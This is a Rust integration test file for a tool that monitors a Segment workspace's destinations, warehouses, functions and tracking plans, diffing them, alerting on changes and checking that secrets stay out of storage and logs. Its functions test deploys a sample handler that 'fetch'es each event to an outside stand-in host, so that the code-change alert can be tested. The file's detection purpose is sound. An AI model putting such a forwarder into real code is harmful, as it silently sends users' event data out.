//! Where data leaves the workspace: destinations, warehouses, functions and tracking plans.
//! Each is stored, diffed field by field and alerted on by its starter rules; their secrets never
//! reach the database or the logs; an API that rejects a function type, or a kind turned off,
//! does not fail the poll.

use std::sync::Arc;

use segwatch::poll::{PollOutcome, Poller};
use segwatch_api::collect::CollectOptions;
use segwatch_api::segment::SegmentClient;
use segwatch_core::diff::{ChangeOp, ResourceChange};
use segwatch_core::model::ResourceKind;
use segwatch_core::redact::{SecretPolicy, fingerprint};
use segwatch_core::rules::RuleSet;
use segwatch_simulator::{Fault, Mutation, SimConfig};
use serde_json::{Value, json};

use crate::util::{STARTER_RULES, TestWorkspace};

fn starter() -> Arc<RuleSet> {
    Arc::new(RuleSet::load(std::path::Path::new(STARTER_RULES)).unwrap())
}

/// The one change of `kind`/`id` in a poll.
fn change_of<'a>(outcome: &'a PollOutcome, kind: ResourceKind, id: &str) -> &'a ResourceChange {
    let found: Vec<&ResourceChange> = outcome
        .changes
        .iter()
        .filter(|c| c.kind == kind && c.resource_id == id)
        .collect();
    assert_eq!(found.len(), 1, "{kind} {id}: {:?}", outcome.changes);
    found[0]
}

fn paths(change: &ResourceChange) -> Vec<&str> {
    change.fields.iter().map(|f| f.path.as_str()).collect()
}

/// Rule ids of the alerts a poll raised about `id`.
fn fired(outcome: &PollOutcome, id: &str) -> Vec<String> {
    let mut rules: Vec<String> = outcome
        .alerts
        .iter()
        .filter(|a| a.resource_id == id)
        .map(|a| a.rule_id.clone())
        .collect();
    rules.sort();
    rules
}

fn stored_body(ws: &TestWorkspace, kind: ResourceKind, id: &str) -> Option<Value> {
    let store = ws.store();
    let workspace = store.find_workspace("default").unwrap().unwrap();
    let latest = store.latest_complete(workspace).unwrap().unwrap();
    store
        .resources_at(workspace, latest)
        .unwrap()
        .into_iter()
        .find(|r| r.kind == kind && r.id == id)
        .map(|r| serde_json::from_str(&r.body).unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_baseline_holds_every_data_flow_resource() {
    let ws = TestWorkspace::start().await;
    let outcome = ws.poll().await.unwrap();
    let count = |k| outcome.resource_counts.get(&k).copied().unwrap_or(0);
    let (destinations, warehouses, functions, plans) = ws.sim.read(|s| {
        (
            s.destinations.len(),
            s.warehouses.len(),
            s.functions.len(),
            s.tracking_plans.len(),
        )
    });
    assert!(destinations > 0 && warehouses > 0 && functions > 0 && plans > 0);
    assert_eq!(count(ResourceKind::Destination), destinations);
    assert_eq!(count(ResourceKind::Warehouse), warehouses);
    assert_eq!(count(ResourceKind::Function), functions);
    assert_eq!(count(ResourceKind::TrackingPlan), plans);

    let (warehouse, plan, function, destination) = ws.sim.read(|s| {
        (
            s.warehouses[0].clone(),
            s.tracking_plans[0].clone(),
            s.functions[0].clone(),
            s.destinations[0].clone(),
        )
    });
    let w = stored_body(&ws, ResourceKind::Warehouse, &warehouse.id).unwrap();
    let mut connected = warehouse.connected_source_ids.clone();
    connected.sort();
    assert_eq!(w["connectedSourceIds"], json!(connected));
    assert_eq!(w["workspaceId"], json!(warehouse.workspace_id));
    let t = stored_body(&ws, ResourceKind::TrackingPlan, &plan.id).unwrap();
    let mut sources = plan.source_ids.clone();
    sources.sort();
    assert_eq!(t["sourceIds"], json!(sources));
    assert_eq!(t["type"], "LIVE");
    // Functions: the list item's fields and the single read's (code, settings) together.
    let f = stored_body(&ws, ResourceKind::Function, &function.id).unwrap();
    assert_eq!(f["code"], json!(fingerprint(&function.code)));
    assert_eq!(f["displayName"], json!(function.display_name));
    assert_eq!(f["catalogId"], json!(function.catalog_id));
    assert_eq!(f["settings"][0]["sensitive"], true);
    let d = stored_body(&ws, ResourceKind::Destination, &destination.id).unwrap();
    assert_eq!(d["sourceId"], json!(destination.source_id));
    assert_eq!(d["metadata"]["slug"], destination.metadata["slug"]);

    // Auditors see the relationships of the current state.
    let store = ws.store();
    let edges: Vec<(String, String, String)> = store
        .connection()
        .prepare(
            "SELECT relation, from_id, to_id FROM audit_relationships
             WHERE workspace = 'default' AND relation IN ('sends_to', 'syncs_to', 'validated_by')",
        )
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap();
    let expected: usize = ws.sim.read(|s| {
        s.destinations.len()
            + s.warehouses
                .iter()
                .map(|w| w.connected_source_ids.len())
                .sum::<usize>()
            + s.tracking_plans
                .iter()
                .map(|t| t.source_ids.len())
                .sum::<usize>()
    });
    assert_eq!(edges.len(), expected);
    assert!(edges.contains(&(
        "sends_to".into(),
        destination.source_id.clone(),
        destination.id.clone()
    )));
    assert!(edges.contains(&(
        "syncs_to".into(),
        connected[0].clone(),
        warehouse.id.clone()
    )));
    let members: i64 = store
        .connection()
        .query_row(
            "SELECT count(*) FROM audit_relationships WHERE relation = 'member_of'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let memberships = ws
        .sim
        .read(|s| s.groups.iter().map(|g| g.members.len()).sum::<usize>());
    assert_eq!(members as usize, memberships);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn destinations_are_diffed_and_alerted_on() {
    let ws = TestWorkspace::start().await;
    let rules = starter();
    ws.poll_rules(&rules).await.unwrap();
    // A production source, labelled so whatever the generator chose.
    let (prod, existing) = ws
        .sim
        .read(|s| (s.sources[0].id.clone(), s.destinations[0].clone()));
    ws.sim
        .apply(Mutation::SetSourceLabel {
            source_id: prod.clone(),
            key: "environment".into(),
            value: "prod".into(),
        })
        .unwrap();
    ws.sim
        .apply(Mutation::AddDestination {
            source_id: prod.clone(),
            name: "Shadow Export".into(),
        })
        .unwrap();
    let new_key = "sk-live-rotated-4a1f9e2b7c";
    ws.sim
        .apply(Mutation::SetDestinationSetting {
            destination_id: existing.id.clone(),
            key: "apiKey".into(),
            value: json!(new_key),
        })
        .unwrap();
    let outcome = ws.poll_rules(&rules).await.unwrap();

    let added = ws.sim.read(|s| {
        s.destinations
            .iter()
            .find(|d| d.name == "Shadow Export")
            .unwrap()
            .id
            .clone()
    });
    assert_eq!(
        change_of(&outcome, ResourceKind::Destination, &added).op,
        ChangeOp::Added
    );
    assert_eq!(
        fired(&outcome, &added),
        vec!["destination-added-to-production-source"]
    );
    let modified = change_of(&outcome, ResourceKind::Destination, &existing.id);
    assert_eq!(modified.op, ChangeOp::Modified);
    assert_eq!(paths(modified), vec!["settings.apiKey"]);
    assert_eq!(modified.fields[0].new, Some(json!(fingerprint(new_key))));
    assert!(
        fired(&outcome, &existing.id).contains(&"destination-settings-changed".to_string()),
        "{:?}",
        outcome.alerts
    );

    // Disabled then re-enabled: the second poll raises the re-enable alert.
    ws.sim
        .apply(Mutation::SetDestinationEnabled {
            destination_id: added.clone(),
            enabled: false,
        })
        .unwrap();
    let disabled = ws.poll_rules(&rules).await.unwrap();
    assert_eq!(
        paths(change_of(&disabled, ResourceKind::Destination, &added)),
        vec!["enabled"]
    );
    assert!(fired(&disabled, &added).is_empty());
    ws.sim
        .apply(Mutation::SetDestinationEnabled {
            destination_id: added.clone(),
            enabled: true,
        })
        .unwrap();
    let reenabled = ws.poll_rules(&rules).await.unwrap();
    assert_eq!(fired(&reenabled, &added), vec!["destination-reenabled"]);

    ws.sim
        .apply(Mutation::RemoveDestination {
            destination_id: added.clone(),
        })
        .unwrap();
    let removed = ws.poll_rules(&rules).await.unwrap();
    assert_eq!(
        change_of(&removed, ResourceKind::Destination, &added).op,
        ChangeOp::Removed
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn warehouses_are_diffed_and_alerted_on() {
    let ws = TestWorkspace::with(SimConfig {
        warehouses: 4,
        ..SimConfig::default()
    })
    .await;
    let rules = starter();
    ws.poll_rules(&rules).await.unwrap();
    let warehouse = ws.sim.read(|s| {
        s.warehouses
            .iter()
            .find(|w| w.settings.contains_key("password"))
            .unwrap()
            .id
            .clone()
    });
    ws.sim
        .apply(Mutation::RotateWarehouseCredential {
            warehouse_id: warehouse.clone(),
        })
        .unwrap();
    let rotated = ws.poll_rules(&rules).await.unwrap();
    let change = change_of(&rotated, ResourceKind::Warehouse, &warehouse);
    assert_eq!(paths(change), vec!["settings.password"]);
    let new_password = ws.sim.read(|s| {
        s.warehouses
            .iter()
            .find(|w| w.id == warehouse)
            .unwrap()
            .settings["password"]
            .clone()
    });
    assert_eq!(
        change.fields[0].new,
        Some(json!(fingerprint(new_password.as_str().unwrap())))
    );
    assert_eq!(
        fired(&rotated, &warehouse),
        vec!["warehouse-credential-changed"]
    );

    ws.sim
        .apply(Mutation::SetWarehouseHost {
            warehouse_id: warehouse.clone(),
            host: "db-4242.external-host.net".into(),
        })
        .unwrap();
    let moved = ws.poll_rules(&rules).await.unwrap();
    let change = change_of(&moved, ResourceKind::Warehouse, &warehouse);
    assert_eq!(paths(change), vec!["settings.host"]);
    assert_eq!(
        change.fields[0].new,
        Some(json!("db-4242.external-host.net"))
    );
    assert_eq!(fired(&moved, &warehouse), vec!["warehouse-host-changed"]);

    ws.sim
        .apply(Mutation::SetWarehouseEnabled {
            warehouse_id: warehouse.clone(),
            enabled: false,
        })
        .unwrap();
    let disabled = ws.poll_rules(&rules).await.unwrap();
    assert_eq!(fired(&disabled, &warehouse), vec!["warehouse-disabled"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn functions_are_diffed_and_alerted_on() {
    let ws = TestWorkspace::start().await;
    let rules = starter();
    ws.poll_rules(&rules).await.unwrap();
    let function = ws.sim.read(|s| s.functions[0].id.clone());
    ws.sim
        .apply(Mutation::DeployFunction {
            function_id: function.clone(),
            code: Some(
                "async function onTrack(e) { await fetch('https://x.example', {body: e}) }".into(),
            ),
        })
        .unwrap();
    ws.sim
        .apply(Mutation::AddFunction {
            display_name: "Quiet Forwarder".into(),
            resource_type: "INSERT_DESTINATION".into(),
        })
        .unwrap();
    let outcome = ws.poll_rules(&rules).await.unwrap();
    let change = change_of(&outcome, ResourceKind::Function, &function);
    assert_eq!(paths(change), vec!["code", "deployedAt"]);
    assert_eq!(
        change.fields[0].new,
        Some(json!(fingerprint(
            "async function onTrack(e) { await fetch('https://x.example', {body: e}) }"
        )))
    );
    assert_eq!(fired(&outcome, &function), vec!["function-code-changed"]);
    let added = ws.sim.read(|s| {
        s.functions
            .iter()
            .find(|f| f.display_name == "Quiet Forwarder")
            .unwrap()
            .id
            .clone()
    });
    assert_eq!(
        change_of(&outcome, ResourceKind::Function, &added).op,
        ChangeOp::Added
    );
    assert_eq!(fired(&outcome, &added), vec!["function-deployed"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tracking_plans_are_diffed_and_alerted_on() {
    let ws = TestWorkspace::start().await;
    let rules = starter();
    ws.poll_rules(&rules).await.unwrap();
    let (plan, source, other) = ws.sim.read(|s| {
        let plan = &s.tracking_plans[0];
        let other = s
            .sources
            .iter()
            .find(|src| !plan.source_ids.contains(&src.id))
            .unwrap()
            .id
            .clone();
        (plan.id.clone(), plan.source_ids[0].clone(), other)
    });
    ws.sim
        .apply(Mutation::ConnectTrackingPlan {
            tracking_plan_id: plan.clone(),
            source_id: other.clone(),
        })
        .unwrap();
    let connected = ws.poll_rules(&rules).await.unwrap();
    assert_eq!(
        paths(change_of(&connected, ResourceKind::TrackingPlan, &plan)),
        vec!["sourceIds"]
    );
    assert!(fired(&connected, &plan).is_empty(), "connecting is fine");

    ws.sim
        .apply(Mutation::DisconnectTrackingPlan {
            tracking_plan_id: plan.clone(),
            source_id: source.clone(),
        })
        .unwrap();
    let disconnected = ws.poll_rules(&rules).await.unwrap();
    let change = change_of(&disconnected, ResourceKind::TrackingPlan, &plan);
    assert_eq!(paths(change), vec!["sourceIds"]);
    let new_ids = change.fields[0].new.clone().unwrap();
    assert!(!new_ids.as_array().unwrap().contains(&json!(source)));
    assert!(new_ids.as_array().unwrap().contains(&json!(other)));
    assert_eq!(
        fired(&disconnected, &plan),
        vec!["tracking-plan-disconnected"]
    );

    // Reordering the connections is not a change.
    ws.sim.shuffle();
    let quiet = ws.poll_rules(&rules).await.unwrap();
    assert!(quiet.changes.is_empty(), "{:?}", quiet.changes);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_function_type_the_api_rejects_is_skipped() {
    let ws = TestWorkspace::with(SimConfig {
        functions: 10,
        ..SimConfig::default()
    })
    .await;
    ws.sim.inject(
        Fault::new(segwatch_simulator::FaultKind::ClientError { status: 422 })
            .on_path("/functions")
            .on_query("resourceType=INSERT_SOURCE"),
    );
    let outcome = ws.poll().await.expect("the poll completes");
    let (all, rejected) = ws.sim.read(|s| {
        (
            s.functions.len(),
            s.functions
                .iter()
                .filter(|f| f.resource_type == "INSERT_SOURCE")
                .count(),
        )
    });
    assert!(rejected > 0);
    assert_eq!(
        outcome
            .resource_counts
            .get(&ResourceKind::Function)
            .copied(),
        Some(all - rejected)
    );
    assert!(
        ws.sim
            .request_log()
            .iter()
            .any(|r| r.starts_with("/functions?resourceType=INSERT_SOURCE")),
        "the type was asked for"
    );
    // Any other failure of the same listing still fails the poll: nothing is silently lost.
    ws.sim.clear_faults();
    ws.sim.inject(
        "500,path=/functions,query=resourceType=SOURCE"
            .parse()
            .unwrap(),
    );
    assert!(ws.poll().await.is_err());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kinds_turned_off_are_neither_requested_nor_stored() {
    let ws = TestWorkspace::start().await;
    ws.poll().await.unwrap();
    let before = ws.sim.request_log().len();
    let options = CollectOptions {
        destinations: false,
        functions: false,
        ..CollectOptions::default()
    };
    let client = SegmentClient::new(ws.client_config()).unwrap();
    let mut store = ws.store();
    let outcome = Poller::new(client, SecretPolicy::default(), "default")
        .with_collect(options)
        .poll(&mut store)
        .await
        .unwrap();
    let requests = &ws.sim.request_log()[before..];
    assert!(
        requests
            .iter()
            .all(|r| !r.starts_with("/destinations") && !r.starts_with("/functions")),
        "{requests:?}"
    );
    assert!(requests.iter().any(|r| r.starts_with("/warehouses")));
    assert_eq!(
        outcome.resource_counts.get(&ResourceKind::Destination),
        None
    );
    assert_eq!(outcome.resource_counts.get(&ResourceKind::Function), None);
    // No longer vouched for: not in the snapshot, and not reported as removed either.
    assert!(outcome.changes.is_empty(), "{:?}", outcome.changes);
    let workspace = store.find_workspace("default").unwrap().unwrap();
    let held = store.resources_at(workspace, outcome.snapshot_id).unwrap();
    assert!(
        held.iter()
            .all(|r| r.kind != ResourceKind::Destination && r.kind != ResourceKind::Function)
    );
    assert!(held.iter().any(|r| r.kind == ResourceKind::Warehouse));

    // The same from the configuration, through the binary.
    let before = ws.sim.request_log().len();
    ws.segwatch()
        .env("SEGWATCH_COLLECT__WAREHOUSES", "false")
        .env("SEGWATCH_COLLECT__TRACKING_PLANS", "false")
        .args(["poll"])
        .success();
    let requests = &ws.sim.request_log()[before..];
    assert!(
        requests
            .iter()
            .all(|r| !r.starts_with("/warehouses") && !r.starts_with("/tracking-plans")),
        "{requests:?}"
    );
    assert!(requests.iter().any(|r| r.starts_with("/destinations")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_kind_collected_for_the_first_time_is_a_baseline_not_an_alert_storm() {
    let ws = TestWorkspace::start().await;
    let rules = starter();
    let poller = |options: CollectOptions| {
        Poller::new(
            SegmentClient::new(ws.client_config()).unwrap(),
            SecretPolicy::default(),
            "default",
        )
        .with_rules(rules.clone(), false)
        .with_collect(options)
    };
    let without = CollectOptions {
        destinations: false,
        ..CollectOptions::default()
    };
    // The destinations of this source, now labelled prod, would each be "added to production".
    let prod = ws.sim.read(|s| s.sources[0].id.clone());
    ws.sim
        .apply(Mutation::SetSourceLabel {
            source_id: prod.clone(),
            key: "environment".into(),
            value: "prod".into(),
        })
        .unwrap();
    poller(without).poll(&mut ws.store()).await.unwrap();
    poller(without).poll(&mut ws.store()).await.unwrap();

    // Destinations turned on (or a segwatch upgrade that collects them): recorded as added,
    // without an alert per existing destination.
    let outcome = poller(CollectOptions::default())
        .poll(&mut ws.store())
        .await
        .unwrap();
    let destinations = ws.sim.read(|s| s.destinations.len());
    assert!(destinations > 0);
    let added = outcome
        .changes
        .iter()
        .filter(|c| c.kind == ResourceKind::Destination && c.op == ChangeOp::Added)
        .count();
    assert_eq!(added, destinations);
    assert!(
        outcome
            .alerts
            .iter()
            .all(|a| a.resource_kind != ResourceKind::Destination),
        "{:?}",
        outcome.alerts
    );

    // From then on a new destination on the production source alerts as usual.
    ws.sim
        .apply(Mutation::AddDestination {
            source_id: prod,
            name: "Late Export".into(),
        })
        .unwrap();
    let outcome = poller(CollectOptions::default())
        .poll(&mut ws.store())
        .await
        .unwrap();
    assert!(
        outcome
            .alerts
            .iter()
            .any(|a| a.rule_id == "destination-added-to-production-source"),
        "{:?}",
        outcome.alerts
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_flow_secrets_never_reach_the_database_or_the_logs() {
    let ws = TestWorkspace::with(SimConfig {
        destinations: 16,
        warehouses: 4,
        functions: 5,
        ..SimConfig::default()
    })
    .await;
    let secrets = |s: &segwatch_simulator::WorkspaceState| -> Vec<String> {
        let mut out = Vec::new();
        for d in &s.destinations {
            secret_strings(&Value::Object(d.settings.clone()), false, &mut out);
        }
        for w in &s.warehouses {
            secret_strings(&Value::Object(w.settings.clone()), false, &mut out);
        }
        for f in &s.functions {
            // As written, and as it would appear inside stored JSON.
            out.push(f.code.clone());
            let escaped = serde_json::to_string(&f.code).unwrap();
            out.push(escaped.trim_matches('"').to_owned());
        }
        out
    };
    let mut transcript = String::new();
    let run = ws
        .segwatch()
        .env("RUST_LOG", "trace")
        .args(["poll"])
        .success();
    transcript.push_str(&run.stdout());
    transcript.push_str(&run.stderr());
    let mut clear = ws.sim.read(secrets);
    let (destination, warehouse, function) = ws.sim.read(|s| {
        (
            s.destinations[0].id.clone(),
            s.warehouses[0].id.clone(),
            s.functions[0].id.clone(),
        )
    });
    ws.sim
        .apply(Mutation::SetDestinationSetting {
            destination_id: destination,
            key: "apiKey".into(),
            value: json!("dk-live-9b8a7c6d5e4f3a2b1c0d"),
        })
        .unwrap();
    ws.sim
        .apply(Mutation::RotateWarehouseCredential {
            warehouse_id: warehouse,
        })
        .unwrap();
    ws.sim
        .apply(Mutation::DeployFunction {
            function_id: function,
            code: None,
        })
        .unwrap();
    for args in [
        vec!["--log-format", "json", "poll", "--format", "json"],
        vec!["diff"],
        vec!["diff", "--format", "json"],
    ] {
        let run = ws.segwatch().env("RUST_LOG", "trace").args(args).success();
        transcript.push_str(&run.stdout());
        transcript.push_str(&run.stderr());
    }
    clear.extend(ws.sim.read(secrets));
    clear.sort();
    clear.dedup();
    assert!(
        clear.len() > 20,
        "the scan looks for real secrets: {}",
        clear.len()
    );

    let mut database = Vec::new();
    for suffix in ["", "-wal"] {
        let mut path = ws.db().into_os_string();
        path.push(suffix);
        if let Ok(bytes) = std::fs::read(&path) {
            database.extend(bytes);
        }
    }
    let database = String::from_utf8_lossy(&database);
    assert!(
        transcript.contains("/functions/"),
        "trace logs were captured"
    );
    assert!(
        transcript.contains("settings.apiKey"),
        "the diff shows the change"
    );
    assert!(
        database.contains(&fingerprint("dk-live-9b8a7c6d5e4f3a2b1c0d")),
        "the database holds destination data"
    );
    for secret in &clear {
        assert!(
            !transcript.contains(secret.as_str()),
            "a data-flow secret leaked into output or logs"
        );
        assert!(
            !database.contains(secret.as_str()),
            "a data-flow secret leaked into the database"
        );
    }
}

/// The settings the simulator fills with secrets, named here independently of segwatch's
/// redaction rules, plus any bearer credential wherever it sits.
const SECRET_SETTINGS: &[&str] = &[
    "apiSecret",
    "apiKey",
    "secretKey",
    "token",
    "restApiKey",
    "sharedSecret",
    "clientSecret",
    "refreshToken",
    "accessToken",
    "password",
    "credentials",
];

fn secret_strings(v: &Value, secret: bool, out: &mut Vec<String>) {
    match v {
        Value::String(s) if secret || s.starts_with("Bearer ") => out.push(s.clone()),
        Value::Object(m) => {
            for (k, v) in m {
                secret_strings(v, secret || SECRET_SETTINGS.contains(&k.as_str()), out);
            }
        }
        Value::Array(items) => {
            for v in items {
                secret_strings(v, secret, out);
            }
        }
        _ => {}
    }
}
